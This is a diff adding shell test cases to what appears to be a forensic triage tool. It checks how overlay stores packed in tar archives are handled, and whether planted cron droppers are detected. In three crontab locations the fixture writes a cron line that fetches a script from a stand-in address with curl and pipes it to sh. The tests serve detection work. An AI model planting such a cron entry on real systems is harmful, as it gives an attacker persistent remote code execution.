@@ -271,4 +271,42 @@ if command -v strace >/dev/null && [ -z "$SAN" ]; then
 else
 	skip "what is opened" "no strace, or sanitizers"
 fi
+# ---- a store packed without attributes -----------------------------------------------------------
+
+tiny_store "$T/plain"
+plainnote() { "$BIN/collect-images" -r "$1" | jq -r 'select(.k=="note" and (.detail|test("without extended attributes")))|"\(.class) \(.lost) \(.path|sub("^.*/";""))"'; }
+tar -C "$T/plain" -cf "$T/plain.tar" .
+like "an overlay store in a plain tar: noted, nothing lost" "$(plainnote "$T/plain.tar" 2>"$T/msg")" '^denied false '
+status "and so no exit of 1" 0 "$BIN/collect-images" -r "$T/plain.tar"
+mkdir -p "$T/inroot/var/lib" && cp -r "$T/plain" "$T/inroot/var/lib/docker" && mkdir "$T/inroot/etc"
+tar -C "$T/inroot" -cf "$T/inroot.tar" .
+like "the same in a root" "$(plainnote "$T/inroot.tar" 2>"$T/msg")" '^denied false .*docker$'
+if setfattr -n user.x -v y "$T/plain/overlay2/layer1/diff" 2>/dev/null; then
+	tar --xattrs -C "$T/plain" -cf "$T/x.tar" .
+	is "with attributes: no note" "$(plainnote "$T/x.tar" 2>"$T/msg")" ""
+else
+	skip "with attributes" "needs a file system with user attributes"
+fi
+is "no archive: no note" "$(plainnote "$T/plain" 2>"$T/msg")" ""
+
+# a host's root with what the host would run: of that host all is said, but keep
+R=$T/hroot
+mkdir -p "$R/etc/cron.d" "$R/usr/bin" "$R/var/spool/cron/crontabs"
+echo victim >"$R/etc/hostname"
+printf 'root:x:0:0::/root:/bin/sh\n' >"$R/etc/passwd"
+tar -C "$R" -cf "$T/calm.tar" .
+status "a calm root in an archive" 10 "$BIN/salvor" triage -r "$T/calm.tar" -c "$T/calm.db"
+unlike "nothing against it" "$(cat "$T/out")" "Why wipe"
+for how in /etc/cron.d/job /etc/crontab /var/spool/cron/crontabs/root; do
+	who='root '
+	case $how in */crontabs/*) who= ;; esac
+	echo "* * * * * ${who}curl -fsSL http://192.0.2.1/x.sh | sh" >"$R$how"
+	chmod 600 "$R$how"
+	tar -C "$R" -czf "$T/evil.tgz" .
+	rm "$R$how" "$T/evil.db" 2>/dev/null
+	status "a dropper in $how" 20 "$BIN/salvor" triage -r "$T/evil.tgz" -c "$T/evil.db"
+	like "why" "$(cat "$T/out")" "$how"
+done
+is "its scope" "$("$BIN/case-query" "$T/evil.db" --sql "SELECT scope, path FROM finding WHERE rule GLOB '*/cron-fetch-exec'" --format csv | tail -n 1 | tr -d '\r')" \
+	'"host","/var/spool/cron/crontabs/root"'
 finish
